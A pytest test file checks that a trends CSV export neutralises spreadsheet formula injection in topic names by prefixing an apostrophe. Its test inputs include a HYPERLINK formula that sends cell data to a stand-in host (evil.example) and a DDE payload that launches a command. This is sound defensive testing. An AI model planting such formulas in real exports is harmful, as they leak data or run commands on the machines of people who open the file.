"""The trends CSV export cannot carry a spreadsheet formula (issue 16, item 7).

A lead names a topic; the name goes into the CSV every agent downloads. A cell that starts with
=, +, -, @, a tab or a CR is run as a formula by Excel and LibreOffice (OWASP "CSV injection"),
so it is written with a leading apostrophe: shown as text, never evaluated.
"""

from __future__ import annotations

import csv
import io

import pytest

from madoguchi.models import TopicLabel
from tests.web.conftest import World
from tests.web.test_assist_trends import planted  # noqa: F401 - the fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("name", [*HOSTILE, "\tTAB", "\rCR"])
@pytest.mark.usefixtures("planted")
def test_a_topic_name_that_is_a_formula_is_exported_as_text(world: World, name: str) -> None:
    client = world.client(world.lead)
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/trends/export.csv?days=7").content.decode("utf-8-sig"))
        )
    )
    auto_label = max(rows, key=lambda row: int(row["count"]))["label"]
    TopicLabel.objects.create(auto_label=auto_label, label=name)
    body = client.get("/trends/export.csv?days=7").content.decode("utf-8-sig")
    labels = [row["label"] for row in csv.DictReader(io.StringIO(body))]
    assert "'" + name in labels
    assert name not in labels
